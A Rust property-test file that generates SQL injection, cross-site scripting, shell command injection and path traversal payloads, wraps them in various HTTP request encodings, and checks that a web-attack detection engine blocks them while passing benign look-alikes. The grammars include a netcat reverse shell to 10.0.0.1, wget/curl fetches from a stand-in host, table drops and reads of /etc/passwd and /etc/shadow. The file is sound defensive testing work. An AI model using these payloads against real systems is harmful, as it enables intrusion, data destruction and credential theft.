//! Attacks and their benign twins, made by grammars and wrapped in the tricks that hide them: what is found must not depend
//! on where a payload stands, nor on how it is spelt.

mod common;

use std::sync::Arc;

use common::{Wire, content};
use proptest::prelude::*;
use proptest::strategy::ValueTree as _;
use proptest::test_runner::{Config, TestRunner};
use sensor_engine::policy::{Action, Mode, Policy};

/// Requests of each property.
const CASES: u32 = 600;

fn pick(from: &'static [&'static str]) -> impl Strategy<Value = String> + Clone {
    prop::sample::select(from).prop_map(str::to_owned)
}

/// A blank as SQL has them.
fn blank() -> impl Strategy<Value = String> {
    pick(&[" ", "  ", "/**/", "\t", "\n", "/*x*/", "\u{b}", "+"])
        .prop_map(|text| if text == "+" { " ".into() } else { text })
}

fn case(text: &str, upper: u64) -> String {
    let flip = |(at, letter): (usize, char)| {
        if upper >> (at % 64) & 1 == 1 { letter.to_ascii_uppercase() } else { letter.to_ascii_lowercase() }
    };
    text.chars().enumerate().map(flip).collect()
}

/// How an injection leaves its place in the query.
fn breaking() -> impl Strategy<Value = String> {
    pick(&["1'", "1", "-1", "x'", "1')", "admin'", "1\"", "' ", "1))", "0'"])
}

fn sql() -> impl Strategy<Value = String> {
    let number = 1..9999_u32;
    let truth = (blank(), pick(&["or", "and", "||", "&&"]), blank(), number.clone())
        .prop_map(|(a, word, b, n)| format!("{a}{word}{b}{n}={n}"));
    let union = (blank(), blank(), pick(&["1,2,3", "null,null", "user(),2", "@@version", "concat(0x7e,1)"]))
        .prop_map(|(a, b, list)| format!("{a}union{b}select{a}{list}"));
    let delay = (blank(), pick(&["sleep(5)", "pg_sleep(5)", "benchmark(9999999,md5(1))"]))
        .prop_map(|(a, call)| format!("{a}and{a}{call}"));
    let stacked = pick(&[
        "; drop table users",
        ";select pg_sleep(9)",
        "; exec xp_cmdshell 'dir'",
        "; insert into t values(1)",
    ]);
    let query = (
        blank(),
        pick(&["(select count(*) from users)>0", "(select 1 from dual)=1", "ascii(substr(user(),1,1))>64"]),
    )
        .prop_map(|(a, query)| format!("{a}and{a}{query}"));
    let end = pick(&["--", "-- -", "#", "--+x"]);
    (breaking(), prop_oneof![truth, union, delay, stacked, query], end, any::<u64>())
        .prop_map(|(start, middle, end, upper)| case(&format!("{start}{middle}{end}"), upper))
}

fn script() -> impl Strategy<Value = String> {
    let call = pick(&["alert(1)", "confirm`1`", "prompt(document.domain)", "eval(name)", "fetch('//x')"]);
    let handler = pick(&[
        "onerror",
        "onload",
        "onfocus",
        "onmouseover",
        "ontoggle",
        "onpointerover",
        "onanimationstart",
    ]);
    let element =
        pick(&["img src=x", "svg", "body", "details open", "input autofocus", "video src=x", "marquee"]);
    let gap = pick(&[" ", "/", "\t", "\n"]);
    let with_handler = (element, gap, handler, call.clone())
        .prop_map(|(element, gap, handler, call)| format!("<{element}{gap}{handler}={call}>"));
    let tag = (pick(&["<script>", "<script src=//e>", "<ScRiPt >", "<script/x>"]), call.clone())
        .prop_map(|(tag, call)| format!("{tag}{call}</script>"));
    let url = (pick(&["a href", "iframe src", "form action", "object data"]), call)
        .prop_map(|(place, call)| format!("<{place}=javascript:{call}>"));
    (pick(&["", "\">", "'>", "x"]), prop_oneof![with_handler, tag, url])
        .prop_map(|(start, markup)| format!("{start}{markup}"))
}

fn command() -> impl Strategy<Value = String> {
    let separator = pick(&["; ", ";", "| ", "|", "&& ", "|| "]);
    let order = pick(&[
        "cat /etc/passwd",
        "wget http://e.example/x",
        "curl -s http://e.example/x",
        "nc -e /bin/sh 10.0.0.1 99",
        "uname -a",
        "whoami",
        "ping -c 5 10.0.0.1",
        "c''at /etc/hosts",
        "bash -i",
        "/bin/ls -la",
        "python3 -c 1",
    ]);
    let wrapped = order.clone().prop_map(|order| format!("$({order})"));
    prop_oneof![
        (pick(&["127.0.0.1", "x", "a.txt"]), separator, order)
            .prop_map(|(value, sign, order)| format!("{value}{sign}{order}")),
        wrapped
    ]
}

fn path() -> impl Strategy<Value = String> {
    let step = pick(&["../", "..\\", "....//", "..//", ".././"]);
    let file = pick(&["etc/passwd", "etc/shadow", "windows/win.ini", "proc/self/environ", "boot.ini"]);
    (step, 2..9_usize, file).prop_map(|(step, depth, file)| step.repeat(depth) + &file)
}

fn attack() -> impl Strategy<Value = String> {
    prop_oneof![sql(), script(), command(), path()]
}

/// Ordinary values that look a little like attacks.
fn twin() -> impl Strategy<Value = String> {
    let word = || {
        pick(&[
            "select", "union", "order", "table", "drop", "update", "script", "alert", "cat", "house",
            "river", "and", "or", "the", "group", "exec", "like", "delay", "admin", "sleep", "image", "on",
            "load", "null", "from", "where", "values",
        ])
    };
    let sign = pick(&[" ", " ", " ", ", ", " - ", ". ", " & ", "; ", " / ", ": ", "? "]);
    let name = pick(&[
        "O'Reilly",
        "D'Angelo",
        "5'11\"",
        "rock 'n' roll",
        "AT&T",
        "Q&A",
        "C++",
        "50%",
        "#1",
        "<3",
        "a < b",
        "12\" vinyl",
        "it's",
    ]);
    let words = prop::collection::vec((prop_oneof![4 => word(), 1 => name], sign), 1..7);
    words.prop_map(|words| {
        words.into_iter().map(|(word, sign)| word + &sign).collect::<String>().trim().to_owned()
    })
}

fn percent(text: &str) -> String {
    text.bytes()
        .map(
            |byte| {
                if byte.is_ascii_alphanumeric() {
                    char::from(byte).to_string()
                } else {
                    format!("%{byte:02x}")
                }
            },
        )
        .collect()
}

fn json(text: &str, escaped: bool) -> String {
    let escape = |letter: char| match letter {
        '"' | '\\' => format!("\\{letter}"),
        _ if escaped || letter < ' ' => format!("\\u{:04x}", letter as u32),
        _ => letter.to_string(),
    };
    text.chars().map(escape).collect()
}

/// Where a payload stands, and how it is written there.
const CARRIERS: usize = 10;

fn request(carrier: usize, payload: &str) -> Vec<u8> {
    let head = "Host: shop.example\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: */*\r\n";
    let get = |target: String, more: String| format!("GET {target} HTTP/1.1\r\n{head}{more}\r\n");
    let post = |kind: &str, body: String| {
        format!(
            "POST /api/items HTTP/1.1\r\n{head}Content-Type: {kind}\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
    };
    let once = percent(payload);
    match carrier {
        0 => get(format!("/search?lang=en&q={once}"), String::new()),
        1 => get(format!("/search?q={}", percent(&once)), String::new()),
        2 => post("application/x-www-form-urlencoded", format!("a=1&text={}", once.replace("%20", "+"))),
        3 => post("application/json", format!("{{\"user\":{{\"name\":\"{}\"}}}}", json(payload, false))),
        4 => post("application/json", format!("{{\"name\":\"{}\"}}", json(payload, true))),
        5 => post(
            "multipart/form-data; boundary=b",
            format!("--b\r\nContent-Disposition: form-data; name=\"c\"\r\n\r\n{payload}\r\n--b--\r\n"),
        ),
        6 => {
            let text = payload.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
            post("application/xml", format!("<?xml version=\"1.0\"?><r><a>{text}</a></r>"))
        }
        7 => get("/".into(), format!("Cookie: theme=dark; pref={once}\r\n")),
        8 => get(format!("/items/{once}"), String::new()),
        _ => get("/".into(), format!("Referer: https://shop.example/?from={once}\r\n")),
    }
    .into_bytes()
}

fn wire() -> Wire {
    Wire::new(content(), Arc::new(Policy { mode: Mode::Enforce, ..Policy::default() }))
}

fn blocks(wire: &mut Wire, raw: &[u8]) -> Option<String> {
    let records = wire.records(raw);
    let reports = wire.run(&records);
    let blocking = reports.iter().find(|report| matches!(report.verdict.action, Action::Block(_)))?;
    Some(format!("{:?}", blocking.findings.first().map(|finding| (&finding.rule.id, &finding.field))))
}

/// Shares of the payloads of a strategy that block the client, with those that go against the grain.
fn flagged(strategy: impl Strategy<Value = String>, wanted: bool) -> (f64, Vec<String>) {
    let mut runner = TestRunner::new_with_rng(
        Config { cases: CASES, ..Config::default() },
        proptest::test_runner::TestRng::deterministic_rng(proptest::test_runner::RngAlgorithm::ChaCha),
    );
    let (mut wire, mut count, mut odd) = (wire(), 0, Vec::new());
    for _ in 0..CASES {
        let (payload, carrier) = (&strategy, 0..CARRIERS).new_tree(&mut runner).expect("a value").current();
        let found = blocks(&mut wire, &request(carrier, &payload));
        count += u32::from(found.is_some());
        if found.is_some() != wanted {
            odd.push(format!("{carrier} {payload:?} {found:?}"));
        }
    }
    (f64::from(count) / f64::from(CASES), odd)
}

#[track_caller]
fn check(name: &str, strategy: impl Strategy<Value = String>) {
    let (share, missed) = flagged(strategy, true);
    assert!(share >= 0.97, "{name}: {share}\n{}", missed.join("\n"));
}

#[test]
fn injections_of_sql_are_found_wherever_they_stand() {
    check("sql", sql());
}

#[test]
fn script_is_found_wherever_it_stands() {
    check("script", script());
}

#[test]
fn commands_are_found_wherever_they_stand() {
    check("command", command());
}

#[test]
fn paths_are_found_wherever_they_stand() {
    check("path", path());
}

#[test]
fn ordinary_values_are_not_flagged() {
    let (share, flagged) = flagged(twin(), false);
    assert!(share <= 0.005, "{share}\n{}", flagged.join("\n"));
}

/// An attack behind ordinary words is one still.
#[test]
fn words_in_front_hide_little() {
    let behind = (pick(&["hello ", "my order ", "12345 ", "see below "]), attack())
        .prop_map(|(words, attack)| words + &attack);
    let (share, missed) = flagged(behind, true);
    assert!(share >= 0.85, "{share}\n{}", missed.join("\n"));
}
